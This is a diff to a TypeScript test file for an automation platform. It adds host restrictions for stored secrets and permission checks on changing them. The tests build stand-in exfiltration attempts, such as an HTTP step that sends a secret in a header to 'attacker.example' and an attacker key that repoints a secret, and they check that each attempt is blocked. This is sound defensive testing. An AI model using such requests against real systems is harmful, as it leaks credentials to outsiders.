@@ -1,6 +1,7 @@
 import assert from 'node:assert/strict';
 import { describe, it } from 'node:test';
 import { type Json, startService, type TestWorkspace } from '../../../../../test/harness.ts';
+import { keyWith, limitedKey } from '../../../../../test/keys.ts';
 import { sql } from '../../../../platform/database/sql.ts';
 import { readSecrets } from './read-secrets.ts';
 
@@ -18,15 +19,21 @@ function naming(name: string, more: object = {}) {
   };
 }
 
+const request = (config: object) => ({ id: 'ask', type: 'http_request', config: { method: 'GET', ...config } });
+
+function elsewhere(name: string, url = 'https://attacker.example/') {
+  return { ...naming(name), steps: [request({ url, headers: { 'X-Token': `{{ secrets.${name} }}` } })] };
+}
+
 const put = ({ api }: TestWorkspace, name: string, value = VALUE) =>
-  api('PUT', `/automation-secrets/${name}`, { value });
+  api('PUT', `/automation-secrets/${name}`, { value, hosts: ['api.example.com'] });
 
 describe('secrets', () => {
   it('are set, replaced and listed by name; the value is in no response, event or table', async () => {
     const workspace = await service.workspace();
     const made = await put(workspace, 'CRM_TOKEN');
     assert.equal(made.status, 201);
-    assert.deepEqual(Object.keys(made.body.data), ['name', 'createdAt', 'updatedAt']);
+    assert.deepEqual(Object.keys(made.body.data), ['name', 'hosts', 'createdAt', 'updatedAt']);
     assert.equal((await put(workspace, 'CRM_TOKEN')).status, 200);
     await put(workspace, 'ANOTHER');
     const { data } = (await workspace.api('GET', '/automation-secrets')).body;
@@ -53,8 +60,8 @@ describe('secrets', () => {
   it('are decrypted only for requests of their own workspace', async () => {
     const [one, other] = [await service.workspace(), await service.workspace()];
     await put(one, 'TOKEN');
-    assert.deepEqual(await readSecrets(service.db.read, service.services, one.id), { TOKEN: VALUE });
-    assert.deepEqual(await readSecrets(service.db.read, service.services, other.id), {});
+    assert.deepEqual((await readSecrets(service.db.read, service.services, one.id)).values, { TOKEN: VALUE });
+    assert.deepEqual((await readSecrets(service.db.read, service.services, other.id)).values, {});
     await service.db.write.query(sql`
       insert into automation_secrets (workspace_id, name, value_sealed)
       select ${other.id}, name, value_sealed from automation_secrets where workspace_id = ${one.id}`);
@@ -120,6 +127,64 @@ describe('secrets', () => {
         `publish ${published.status}, delete ${deleted.status}`,
       );
     }
+  });
+
+  it('can be changed only by callers who may publish every automation that uses them', async () => {
+    const workspace = await service.workspace();
+    await put(workspace, 'TOKEN');
+    const { id } = (await workspace.api('POST', '/automations', naming('TOKEN'))).body.data;
+    await workspace.api('POST', `/automations/${id}/publish`);
+    const attacker = await keyWith(workspace, 'automations:write');
+    const attack = { value: 'mine', hosts: ['attacker.example'] };
+    const rejected = await attacker.api('PUT', '/automation-secrets/TOKEN', attack);
+    assert.equal(rejected.status, 403);
+    assert.deepEqual(rejected.body.error?.details, { missingScopes: ['candidates:read', 'webhooks:write'] });
+    await put(workspace, 'TOKEN_2');
+    await workspace.api('PATCH', `/automations/${id}`, naming('TOKEN_2'));
+    await workspace.api('POST', `/automations/${id}/publish`);
+    assert.equal(
+      (await attacker.api('PUT', '/automation-secrets/TOKEN', attack)).status,
+      403,
+      'runs of the earlier version may still be open',
+    );
+    assert.equal((await attacker.api('PUT', '/automation-secrets/OTHER', attack)).status, 201);
+    const scopes = ['automations:write', 'candidates:read', 'webhooks:write'];
+    const limited = await limitedKey(workspace, { personalData: false }, scopes);
+    assert.equal((await limited.api('PUT', '/automation-secrets/TOKEN', attack)).status, 403);
+    assert.equal((await put(workspace, 'TOKEN', 'rotated')).status, 200);
+  });
+
+  it('are sent only to their hosts, whether these are fixed or rendered', async () => {
+    const workspace = await service.workspace();
+    const { api } = workspace;
+    await put(workspace, 'TOKEN');
+    const rejected = await api('POST', '/automations', elsewhere('TOKEN'));
+    assert.equal(rejected.status, 422);
+    assert.equal(rejected.body.error?.details.field, 'steps.0.config.url');
+    const rendered = elsewhere('TOKEN', 'https://{{ job.slug }}.example/');
+    const simulate = async (body: object) => {
+      const { id } = (await api('POST', '/automations', body)).body.data;
+      const { steps } = (await api('POST', `/automations/${id}/simulate`, { event: 'job.created', data: { job: {} } }))
+        .body.data;
+      return steps[0];
+    };
+    assert.equal((await simulate(rendered)).outcome, 'failed');
+    await api('PUT', '/automation-secrets/CHANNEL', { value: 'https://Chat.Example/room/4711' });
+    const { data } = (await api('GET', '/automation-secrets')).body;
+    assert.deepEqual(
+      data.map(({ name, hosts }: Json) => [name, hosts]),
+      [
+        ['CHANNEL', ['chat.example']],
+        ['TOKEN', ['api.example.com']],
+      ],
+    );
+    const toChannel = { ...naming('CHANNEL'), steps: [request({ url: '{{ secrets.CHANNEL }}' })] };
+    assert.equal((await simulate(toChannel)).outcome, 'not_executed');
+    await api('PUT', '/automation-secrets/CHANNEL', { value: 'https://attacker.example/' });
+    const step = await simulate(toChannel);
+    assert.equal(step.outcome, 'failed', 'a new value does not move the host');
+    assert.doesNotMatch(step.error, /attacker/);
+    assert.equal((await api('PUT', '/automation-secrets/TOKEN', { value: 'x', hosts: ['a b'] })).status, 422);
   });
 
   it('names are upper case, values not empty, and changes are in the event log', async () => {
